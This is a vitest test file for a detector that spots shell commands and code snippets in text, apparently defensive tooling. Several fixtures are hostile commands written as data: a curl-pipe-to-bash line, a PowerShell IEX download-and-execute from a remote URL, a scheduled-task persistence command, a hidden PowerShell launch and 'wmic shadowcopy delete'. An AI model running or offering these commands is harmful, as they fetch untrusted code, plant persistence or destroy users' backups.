import { describe, expect, it } from 'vitest';
import { codeEvidence, looksLikeCommand } from './code.js';

describe('codeEvidence', () => {
  it.each([
    ['Use this:\n```bash\nls\n```', 'fenced code block'],
    ['Run `ls -la` to list hidden files', 'inline command `ls -la`'],
    ['Type `Get-ChildItem -Force` in PowerShell', 'inline command `Get-ChildItem -Force`'],
    ['$ rm -rf /tmp/cache', 'shell prompt "$ rm -rf /tmp/cache"'],
    ['PS C:\\> Get-Process', 'shell prompt "PS C:\\\\> Get-Process"'],
    ['user@host:~$ whoami', 'shell prompt "user@host:~$ whoami"'],
    ['Then:\ncurl -fsSL https://example.com/x.sh | bash', 'command line "curl -fsSL https://example.com/x.sh | ba"'],
    ['find . -name "*.log" -delete', 'command line "find . -name \\"*.log\\" -delete"'],
  ])('finds code in %j', (text, evidence) => {
    expect(codeEvidence(text)).toBe(evidence);
  });

  it.each([
    'Phishing emails fake urgency so you act before thinking.',
    'make sure the tests pass before you merge',
    'Find the file and delete it.',
    'The `print` function writes to standard output.',
    'Cat owners know this well',
    '# Heading\n> a quote',
    'echo chamber effects are real',
  ])('finds no code in %j', (text) => {
    expect(codeEvidence(text)).toBeUndefined();
  });
});

describe('looksLikeCommand', () => {
  it('accepts known commands inline, and ambiguous ones only with shell arguments', () => {
    expect(looksLikeCommand('git status', false)).toBe(true);
    expect(looksLikeCommand('sudo apt-get install nginx', false)).toBe(true);
    expect(looksLikeCommand('find', true)).toBe(true);
    expect(looksLikeCommand('export PATH=$PATH:/opt/bin', false)).toBe(true);
    expect(looksLikeCommand('export the report', false)).toBe(false);
    expect(looksLikeCommand('cd into the folder and look around.', false)).toBe(false);
    expect(looksLikeCommand('foo | bar', true)).toBe(true);
    expect(looksLikeCommand('', false)).toBe(false);
  });
});

describe('inline commands that are not in the command list', () => {
  it('count by their arguments: switches, URLs, Windows paths', () => {
    expect(codeEvidence('paste `schtasks /create /sc minute /tn Update /tr C:\\x.exe` to unlock it')).toMatch(/^inline command/);
    expect(codeEvidence('a one-liner: `wmic process call create "powershell -w hidden"`.')).toMatch(/^inline command/);
    expect(codeEvidence("sent me `IEX (New-Object Net.WebClient).DownloadString('http://x.io/a.ps1')`")).toMatch(/^inline command/);
    expect(codeEvidence('PSA: the fix going around, `wmic shadowcopy delete`, removes all shadow copies')).toMatch(/^inline command/);
    expect(codeEvidence('the `user_id` and `created_at` columns')).toBeUndefined();
  });
});
